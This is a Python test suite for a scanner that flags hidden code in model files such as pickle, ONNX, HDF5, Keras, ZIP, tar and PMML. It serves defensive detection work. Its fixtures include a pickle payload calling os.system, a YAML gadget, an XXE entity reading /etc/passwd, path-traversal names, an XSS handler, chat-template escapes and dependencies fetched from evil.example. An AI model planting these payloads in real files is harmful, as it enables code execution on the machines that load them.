"""What the first held-out round showed: holes that it found, and false alarms."""

import base64
import io
import json
import pickle  # noqa: TID251 - it only writes here
import struct
import tarfile
import warnings
import zipfile
from pathlib import Path, PosixPath
from typing import Literal

import numpy as np
import pandas as pd
import pytest
import torch
from onnx import TensorProto, helper

from vallum.scan import CodeRules, ScanVerdict, scan_bytes, scan_path

EVIL = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
OLD_EVIL = b"cos\nsystem\n(S'true'\ntR."


def ids(data: bytes, name: str = "x") -> set[str]:
    return {one.id for one in scan_bytes(name, data).files[0].findings}


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("evil", [EVIL, OLD_EVIL])
def test_a_pickle_in_the_bytes_of_a_pickle_is_found(protocol: int, evil: bytes) -> None:
    report = scan_bytes("x", pickle.dumps({"state": evil}, protocol=protocol))
    assert report.verdict is ScanVerdict.MALICIOUS
    assert {one.id for one in report.files[0].findings} == {"pickle.nested"}
    if protocol == 5:
        assert "pickle.nested" in ids(pickle.dumps(bytearray(evil), protocol=5))


def test_a_pickle_is_found_at_any_depth_and_in_any_spelling() -> None:
    deep = EVIL
    for _ in range(7):
        deep = pickle.dumps(deep, protocol=4)
        assert scan_bytes("x", deep).verdict is ScanVerdict.MALICIOUS
    for evil in (EVIL, OLD_EVIL):
        for text in (base64.b64encode(evil).decode(), evil.hex(), evil.decode("latin-1")):
            assert ids(json.dumps({"model": [text]}).encode()) == {"config.pickle"}, text
    assert ids(b"notes\n" + base64.b64encode(EVIL) + b"\n") == {"text.pickle"}
    plain = [b"\x80\x04]." * 9, b"words and more words\nin lines", bytes(range(99))]
    for data in plain:
        texts = [base64.b64encode(data).decode(), data.hex(), data.decode("latin-1")]
        assert ids(json.dumps(texts).encode()) == set()


def test_numbers_that_begin_as_a_pickle_does_pass() -> None:
    noise = [b"\x80\x04" + np.random.default_rng(at).bytes(4000) for at in range(20)]
    plain = pickle.dumps([1, {"a": b"x"}])
    assert scan_bytes("x", pickle.dumps([*noise, plain])).verdict is ScanVerdict.DATA_LIKE


def test_an_array_of_objects_takes_its_items_from_a_list() -> None:
    good = pickle.dumps(np.array([1, "a"], dtype=object), protocol=4)
    assert scan_bytes("x", good).verdict is ScanVerdict.DATA_LIKE
    start = good.index(b"]\x94(")  # the list of items becomes eight bytes
    assert "pickle.arguments" in ids(good[:start] + b"C\x08" + bytes(8) + b"t\x94b.")


def test_settings_that_import_are_found_whatever_stands_beside() -> None:
    assert "config.code" in ids(b"target: os.system\ncommand: 'true'\n")
    assert "config.code" in ids(b'{"target": "evil_pkg.Model", "lr": 1}')
    assert ids(b"target: nemo.collections.asr.models.EncDecModel\nlr: 1\n") == set()
    assert ids(b"target: price\nlr: 1\n") == set()


def test_yaml_may_name_its_plain_types_and_no_others() -> None:
    assert ids(b"a: !!int 3\nb: !!str 4\nc: !!seq [1]\n") == set()
    for text in (b"!!javax.script.Engine [!!java.net.Loader [[]]]\n", b"a: !!binary AA==\n",
                 b"a: !thing 1\n"):  # fmt: skip
        assert scan_bytes("x", text).exit_code == 1
    assert ids(b"!\n!!\nwow!!\n") == set()  # a vocabulary


def test_a_graph_written_as_text_is_judged_by_its_operators() -> None:
    graph = b'node {\n  name: "x"\n  op: "%s"\n}\n'
    assert ids(graph % b"Const") == set()
    assert scan_bytes("x", graph % b"WriteFile").verdict is ScanVerdict.MALICIOUS
    assert ids(b"node: main\nrole: worker\n") == set()


def test_postscript_is_no_text() -> None:
    assert ids(b"%!PS\n(x) run\n") == {"file.unknown-format"}


def test_an_array_of_skops_lies_in_the_archive() -> None:
    def schema(place: str) -> bytes:
        node = {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode",
                "type": "numpy", "file": place}  # fmt: skip
        return json.dumps(node).encode()

    assert ids(schema("140234.npy")) == set()
    for place in ("../../etc/passwd", "/etc/passwd", "a/b.npy", "..", ""):
        assert ids(schema(place)) == {"skops.file"}, place


def onnx_with(place: str, *spans: tuple[int, int]) -> bytes:
    tensors = []
    for at, (offset, length) in enumerate(spans):
        tensor = TensorProto(name=f"w{at}", data_type=TensorProto.FLOAT, dims=[length // 4])
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in (("location", place), ("offset", offset), ("length", length)):
            tensor.external_data.add(key=key, value=str(value))
        tensors.append(tensor)
    values = [helper.make_tensor_value_info(n, TensorProto.FLOAT, [1]) for n in "xy"]
    node = helper.make_node("Relu", ["x"], ["y"])
    graph = helper.make_graph([node], "g", values[:1], values[1:], tensors)
    return bytes(helper.make_model(graph).SerializeToString())


def test_tensors_beside_their_graph_pass_to_the_last_byte(tmp_path: Path) -> None:
    weights = np.random.default_rng(3).random(8, dtype="f4").tobytes()
    data = tmp_path / "weights.bin"

    def verdict(graph: bytes, content: bytes) -> ScanVerdict:
        (tmp_path / "model.onnx").write_bytes(graph)
        data.write_bytes(content)
        return scan_path(tmp_path).verdict

    whole = onnx_with("weights.bin", (0, 16), (16, 16))
    assert verdict(whole, weights) is ScanVerdict.CLEAN
    padded = onnx_with("weights.bin", (0, 16), (32, 16))
    assert verdict(padded, weights[:16] + bytes(16) + weights[16:]) is ScanVerdict.CLEAN
    for graph, content in (
        (whole, weights + b"x"), (padded, weights[:16] + b"hidden code here" + weights[16:]),
        (onnx_with("weights.bin", (0, 64)), weights), (onnx_with("other.bin", (0, 32)), weights),
        (whole, EVIL.ljust(32, b"\0")), (onnx_with("../weights.bin", (0, 32)), weights),
    ):  # fmt: skip
        assert verdict(graph, content) is not ScanVerdict.CLEAN
    assert scan_bytes("model.onnx", whole).exit_code == 1  # nobody has seen the other file
    data.unlink()
    data.symlink_to("/etc/hostname")
    assert scan_path(tmp_path).exit_code == 1


@pytest.mark.parametrize("kind", ["GIF", "WEBP", "BMP"])
def test_images_pass_and_what_follows_them_does_not(kind: str) -> None:
    image = pytest.importorskip("PIL.Image")
    pixels = np.random.default_rng(4).integers(0, 255, (7, 9, 3), dtype="u1")
    image.fromarray(pixels).save(file := io.BytesIO(), kind)
    data = file.getvalue()
    assert scan_bytes("x", data).verdict is ScanVerdict.CLEAN
    for broken in (data + b"x", data + EVIL, data[:-1], data[:20]):
        assert scan_bytes("x", broken).exit_code == 1


def test_an_empty_file_is_no_model_and_nothing_against_one(tmp_path: Path) -> None:
    assert scan_bytes("model.safetensors", b"").exit_code == 1
    (tmp_path / "model.onnx.data").touch()
    assert scan_path(tmp_path).exit_code == 1
    (tmp_path / "model.onnx").write_bytes(onnx_with("x"))
    assert scan_path(tmp_path).verdict is ScanVerdict.CLEAN
    (tmp_path / "other.bin").touch()  # folders hold such files; it is told, and hides nothing
    said = scan_path(tmp_path)
    assert said.exit_code == 0
    assert [one.id for file in said.files for one in file.findings] == ["file.empty"]


def test_tables_of_pandas_pass() -> None:
    when = pd.date_range("2024-01-01", periods=4)
    for value in (
        pd.DataFrame({"a": range(4), "b": list("abcd"), "t": when.tz_localize("UTC")}),
        pd.DataFrame({"c": pd.Categorical(list("aabb")), "d": when - when[0]}),
        pd.DataFrame({"i": pd.array([1, None] * 2, dtype="Int64")}, index=when),
        pd.Series(pd.arrays.SparseArray([0, 0, 1, 0])), pd.Series(pd.cut(range(4), 2)),
        pd.Series(pd.period_range("2024-01", periods=4, freq="M")), [pd.NaT, pd.Timedelta(1)],
    ):  # fmt: skip
        for protocol in (0, 2, 4, 5):
            report = scan_bytes("x", pickle.dumps(value, protocol=protocol))
            assert report.verdict is ScanVerdict.DATA_LIKE, report.files[0].findings


def test_losses_activations_and_narrow_floats_of_torch_pass() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        values = [
            torch.nn.TransformerEncoderLayer(4, 2, 8), torch.nn.CrossEntropyLoss(),
            torch.zeros(3).to(torch.float8_e4m3fn), {"path": PosixPath("a/b")},
        ]  # fmt: skip
        for value in values:
            torch.save(value, file := io.BytesIO())
            report = scan_bytes("x.pt", file.getvalue())
            assert report.verdict is ScanVerdict.DATA_LIKE, report.files[0].findings


def test_pickles_in_hdf5_are_found_wherever_they_lie() -> None:
    h5py = pytest.importorskip("h5py")

    def made(attribute: object = None, content: object = None) -> bytes:
        with h5py.File(file := io.BytesIO(), "w") as root:
            root.create_dataset("w", data=np.zeros(3, "f4") if content is None else content)
            if attribute is not None:
                root.attrs["state"] = attribute
        return file.getvalue()

    assert ids(made()) == set()
    assert ids(made(np.void(EVIL))) == {"hdf5.opaque"}
    assert ids(made(content=np.frombuffer(EVIL, "u1"))) == {"hdf5.pickle"}
    noise = np.random.default_rng(5).integers(0, 255, 999, dtype="u1")
    assert ids(made(content=np.r_[np.array([0x80, 4], "u1"), noise])) == set()


def keras_of(*layers: dict[str, object]) -> bytes:
    config = {"class_name": "Functional", "module": "keras", "config": {"layers": list(layers)}}
    with zipfile.ZipFile(file := io.BytesIO(), "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", "{}")
    return file.getvalue()


def test_operations_of_keras_pass_by_name_and_module() -> None:
    def layer(name: str, module: str) -> dict[str, object]:
        return {"class_name": name, "module": module, "config": {}, "registered_name": name}

    assert ids(keras_of(layer("Add", "keras.src.ops.numpy"))) == set()
    assert ids(keras_of({"class_name": "GetItem", "config": {}})) == set()  # as HDF5 has it
    for name, module in (("Map", "keras.src.ops.core"), ("system", "keras.src.ops.numpy"),
                         ("load", "keras.src.ops.numpy"), ("Add", "evil.ops.numpy")):  # fmt: skip
        assert ids(keras_of(layer(name, module))) - {"keras.function"}


PMML = """<?xml version="1.0" encoding="UTF-8"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/>
<RegressionModel functionName="regression"><MiningSchema/><Output><OutputField name="y"><Apply
function="ln"><FieldRef field="a"/></Apply></OutputField></Output></RegressionModel>%s</PMML>
"""


def test_pmml_passes_with_its_own_vocabulary_only() -> None:
    assert scan_bytes("x", (PMML % "").encode()).verdict is ScanVerdict.CLEAN
    for inside in (
        '<Extension name="x"/>', '<x:y xmlns:x="http://e.org"/>', "<?php echo 1?>", "<PMML/>",
        '<Apply function="java.lang.Runtime.exec"/>', "<a>" * 300 + "</a>" * 300, "<a>", "&e;",
        '<a x:b="1" xmlns:x="http://e.org"/>',
    ):  # fmt: skip
        assert ids((PMML % inside).encode()), inside
    entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    for text in (
        (PMML % "").replace("<PMML", entity + "<PMML"),
        (PMML % "") + "import os",
        "<PMML/>",
    ):
        assert ids(text.encode()), text[:80]


def test_documents_in_an_archive_are_judged_as_what_a_loader_reads_under_code_rules() -> None:
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l"}}
    model = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        archive.writestr("config.json", json.dumps(model))
    found = scan_bytes("m.keras", out.getvalue(), code=CodeRules())
    assert "keras.code" in {one.id for one in found.files[0].findings}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a/weights.txt", OLD_EVIL)
    assert scan_bytes("m.zip", out.getvalue(), code=CodeRules()).verdict is ScanVerdict.MALICIOUS
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a/notes.txt", "To load it:\n\nimport torch\n")
    assert scan_bytes("m.zip", out.getvalue(), code=CodeRules()).exit_code == 0
    assert ids(out.getvalue()) == {"text.code"}


def test_a_virtual_dataset_lies_in_other_files(tmp_path: Path) -> None:
    h5py = pytest.importorskip("h5py")
    layout = h5py.VirtualLayout((4,), "f4")
    layout[:] = h5py.VirtualSource("/home/other/secret.h5", "d", (4,))
    with h5py.File(tmp_path / "x.h5", "w") as file:
        file.create_virtual_dataset("w", layout)
    assert ids((tmp_path / "x.h5").read_bytes()) == {"hdf5.external-data"}


def test_a_memo_index_beyond_the_stream_is_refused() -> None:
    for index in (b"r\xff\xff\xff\xff", b"p4294967295\n"):
        report = scan_bytes("x", b"\x80\x04N" + index + b".")
        assert report.exit_code == 1


def tar_of(members: dict[str, bytes], mode: Literal["w", "w:gz"] = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.parametrize("mode", ["w", "w:gz"])
def test_a_tar_may_hold_a_zip_but_not_end_as_one(mode: Literal["w", "w:gz"]) -> None:
    out = io.BytesIO()
    np.savez(out, x=np.zeros(3))
    inner = out.getvalue()
    assert ids(tar_of({"a.csv": b"a,b\n1,2\n", "m.npz": inner}, mode)) == set()
    evil = io.BytesIO()
    with zipfile.ZipFile(evil, "w") as archive:
        archive.writestr("x.pkl", EVIL)
    report = scan_bytes("x", tar_of({"m.npz": evil.getvalue()}, mode))
    assert report.verdict is ScanVerdict.MALICIOUS
    hidden = io.BytesIO()
    np.save(hidden, np.frombuffer(evil.getvalue(), dtype="u1"))
    assert "file.polyglot" in ids(tar_of({"w.npy": hidden.getvalue()}, mode))
    plain = tar_of({"a.csv": b"a,b\n1,2\n"})
    assert ids(plain + evil.getvalue()) == {"archive.hidden-data"}


def test_names_of_files_stay_in_their_folder() -> None:
    for name in ("../x.bin", "/opt/x.bin", "a/../../x", "C:\\x", "..\\x", "https://a/x", "~/x"):
        for document in ({"weight_map": {"w": name}}, {"flavors": {"a": {"pickled_model": name}}}):
            assert ids(json.dumps(document).encode()) == {"config.path"}, name
    for name in ("model-00001-of-00002.safetensors", "a/b.bin", "a..b", "data"):
        assert ids(json.dumps({"weight_map": {"w": name}, "model_data": name}).encode()) == set()


def test_what_an_editor_runs_is_code() -> None:
    task = {"tasks": [{"label": "x", "runOptions": {"runOn": "folderOpen"}}]}
    for document in (task, {"postCreateCommand": "true"}, {"scripts": {"postinstall": "true"}}):
        assert ids(json.dumps(document).encode()) == {"config.code"}
    assert ids(json.dumps({"postinstall": 5, "runOn": "demand"}).encode()) == set()


def test_a_mapping_of_peft_may_name_transformers_only() -> None:
    good = {
        "base_model_class": "BertModel",
        "parent_library": "transformers.models.bert.modeling_bert",
    }
    assert ids(json.dumps({"auto_mapping": good}).encode()) == set()
    for bad in (
        good | {"parent_library": "evil"},
        good | {"parent_library": "transformers.models.bert.modeling_gpt2"},
        good | {"parent_library": "transformers.dynamic_module_utils"},
        good | {"base_model_class": "os.system"},
        good | {"base_model_class": "logging"},
        good | {"also": "x"},
        {"base_model_class": "BertModel"},
    ):
        assert ids(json.dumps({"auto_mapping": bad}).encode()) == {"config.code"}, bad


def test_markup_with_an_event_handler_acts() -> None:
    for text in (b"<img src=x onerror=alert(1)>\n", b'<body class="a" onload="go()">\n'):
        assert "text.code" in ids(text)
        assert scan_bytes("README.md", text).exit_code == 0
    assert "text.code" not in ids(b'<p align="center"><img src="a.png" width="40"/></p>\n')


def test_numbers_of_a_training_log_may_be_no_numbers() -> None:
    log = [{"loss": float("nan"), "best": [float("inf"), -float("inf")]}]
    assert scan_bytes("x", json.dumps(log).encode()).verdict is ScanVerdict.CLEAN
    large = [{"step": at, "loss": float("nan"), "a": "x" * 99} for at in range(20_000)]
    assert scan_bytes("x", json.dumps(large).encode()).verdict is ScanVerdict.CLEAN
    large[0]["auto_map"] = "a.B"
    assert ids(json.dumps(large).encode()) == {"config.code"}


@pytest.mark.parametrize(
    ("name", "text", "found"),
    [
        ("requirements.txt", "evil @ https://evil.example/evil.whl\n", "dependency.url"),
        ("requirements.txt", "git+https://evil.example/evil.git\n", "dependency.vcs"),
        ("requirements.txt", "--index-url http://evil.example/\nx\n", "dependency.other-index"),
        ("conda.yaml", "dependencies:\n- pip:\n  - git+https://evil.example/e.git\n",
         "dependency.vcs"),
        ("notes.txt", "the key is AKIAIOSFODNN7EXAMPLZ\n", "secret.token"),
        ("requirements.txt", "torch>=2\nnumpy==2.0.0\n", ""),
        ("conda.yaml", "name: x\ndependencies:\n- python=3.11\n- pip:\n  - mlflow\n", ""),
    ],
)  # fmt: skip
def test_texts_beside_a_model_take_no_packages_from_elsewhere_and_give_no_secret_away(
    name: str, text: str, found: str
) -> None:
    said = scan_bytes(name, text.encode())
    assert said.exit_code == bool(found)
    assert [one.id for file in said.files for one in file.findings][:1] == (
        [found] if found else []
    )


@pytest.mark.parametrize(
    ("template", "passes"),
    [
        ("{{ m | selectattr('role', 'eq', 'system') | map(attribute='content') | join }}", True),
        ("{% set sys = messages[0].content %}{{ sys }}", True),
        ("{{ sys.modules }}", False),
        ("{% for x in messages | map('trim') %}{{ x }}{% endfor %}", True),
        ("{{ messages | map(attribute='__class__') | list }}", False),
        ("{{ messages | map(attribute='_x') | list }}", False),
        ("{{ messages | map(attribute=name) | list }}", False),
        ("{{ messages | map('attr', 'content') | list }}", False),
        ("{{ messages | map('format') | list }}", False),
        ("{{ '%s: %5.2f %%' | format(m.role, m.score) }}", True),
        ('{{ "%d" | format(n) ~ \'%-2s\'|format(m.a) }}', True),
        ("{{ '%s' | format(cycler) }}", False),
        ("{{ '%s' | format(m._x) }}", False),
        ("{{ m.content | format(m.role) }}", False),
        ("{{ '%999999999d' | format(1) }}", False),
        ("{{ '%*d' | format(999999999, 1) }}", False),
        ("{{ '%99999999' 'd' | format(1) }}", False),
        ("{{ '{0.x}'.format(m) }}", False),
        ("{{ 'a' ~ joiner ~ '|format(' }}", False),
        ("{{ 'a' ~ \"' | format\" ~ joiner }}", False),
    ],
)  # fmt: skip
def test_a_chat_template_may_fetch_attributes_that_it_spells_out(
    template: str,
    passes: bool,  # noqa: FBT001 - a table
) -> None:
    data = json.dumps({"chat_template": template}).encode()
    assert (scan_bytes("tokenizer_config.json", data).exit_code == 0) is passes


def test_sizes_of_safetensors_and_names_of_caches_are_no_code() -> None:
    header = json.dumps({"__metadata__": {"format": "pt" + " " * 118}}).encode()
    assert len(header) == 0x98
    data = struct.pack("<Q", len(header)) + header
    assert scan_bytes("model.safetensors", data).verdict is ScanVerdict.CLEAN
    assert scan_bytes(".gitignore", b"__pycache__/\n*.pyc\n").verdict is ScanVerdict.CLEAN
    assert scan_bytes("notes.txt", b"x.__class__.__bases__\n").exit_code == 1


# -- what the fifth round showed ----------------------------------------------------------------


def zipped(extra: bytes = b"", comment: bytes = b"") -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        info = zipfile.ZipInfo("config.json", (2025, 3, 1, 0, 0, 0))
        info.extra, info.comment = extra, comment
        archive.writestr(info, "{}")
    return held.getvalue()


@pytest.mark.parametrize(
    ("extra", "comment", "code"),
    [
        (b"", b"a note", 0),
        (struct.pack("<HHBI", 0x5455, 5, 1, 1), b"", 0),
        (b"FB" + struct.pack("<H", 40) + b"Z" * 40, b"", 0),
        (struct.pack("<HHBI", 0x7075, 16, 1, 0) + b"config.json", b"", 0),
        (struct.pack("<HHBI", 0x7075, 5 + len(EVIL), 1, 0) + EVIL, b"", 1),
        (struct.pack("<HH", 0x5455, len(OLD_EVIL)) + OLD_EVIL, b"", 1),
        (struct.pack("<HH", 0x9999, 4) + b"EVIL", b"", 1),
        (b"", EVIL, 1),
    ],
)
def test_nothing_hides_in_what_a_zip_says_beside_its_members(
    extra: bytes, comment: bytes, code: int
) -> None:
    assert scan_bytes("x.zip", zipped(extra, comment)).exit_code == code


def test_the_bytes_of_a_tensor_are_those_of_its_shape() -> None:
    for dimensions, bits, code in (([4], 16, 0), ([5], 16, 1), ([3], 16, 1), ([2, 2], 16, 0)):
        tensor = helper.make_tensor("w", TensorProto.FLOAT, [4], bytes(bits), raw=True)
        del tensor.dims[:]
        tensor.dims.extend(dimensions)
        value = helper.make_tensor_value_info("y", TensorProto.FLOAT, dimensions)
        node = helper.make_node("Identity", ["w"], ["y"])
        graph = helper.make_graph([node], "g", [], [value], [tensor])
        assert scan_bytes("x", helper.make_model(graph).SerializeToString()).exit_code == code


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("<% open('x', 'w') %>", 1),
        ("<%= File.read('x') %>", 1),
        ("<?php phpinfo();", 1),
        ("accuracy <% of 3, then 5 %", 0),
        ("*.bin diff=x filter=evil -text", 1),
        ("*.bin filter=lfs diff=lfs merge=lfs -text", 0),
        ("conv1 filter=64 loss=0.5", 0),
    ],
)
def test_a_program_in_a_page_is_refused(text: str, code: int) -> None:
    assert scan_bytes("x", text.encode()).exit_code == code


def test_a_whole_module_of_old_torch_keeps_its_source_beside_it() -> None:
    held = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.save(torch.nn.EmbeddingBag(4, 3), held, _use_new_zipfile_serialization=False)
    assert scan_bytes("x.pth", held.getvalue()).exit_code == 0


def test_arrays_as_of_mnist_and_logs_in_colour_are_clean_and_nothing_more() -> None:
    array = b"\0\0\x08\x03" + struct.pack(">3I", 2, 3, 4) + bytes(24)
    for data, code in (
        (array, 0), (array + b"\0", 1), (array[:-1], 1), (b"\0\0\x07" + array[3:], 1),
        (b"\x1b[32mloss\x1b[0m 0.5\n", 0), (b"\x1b]0;title\x07loss 0.5\n", 1),
        (b"\x1b[2Jloss 0.5\n", 1),
    ):  # fmt: skip
        assert scan_bytes("x", data).exit_code == code
